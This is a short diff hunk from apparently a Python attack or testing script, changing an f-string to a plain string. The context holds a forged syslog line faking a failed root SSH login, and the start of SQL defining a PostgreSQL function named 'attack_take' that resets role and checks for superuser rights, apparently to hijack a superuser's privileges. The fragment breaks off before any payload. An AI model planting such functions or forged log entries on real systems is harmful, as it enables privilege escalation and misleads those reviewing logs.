@@ -35,7 +35,7 @@ FORGED = b"<38>sshd[%d]: Failed password for root from 192.0.2.66 port 4711 ssh2
 
 
 # Run by whoever asks for it, be it by a name of the server's own or by the plan of a table; of nobody's rights but a superuser's it makes use.
-TAKE = f"""
+TAKE = """
 CREATE OR REPLACE FUNCTION public.attack_take() RETURNS text LANGUAGE plpgsql AS $take$ BEGIN
   BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
   IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
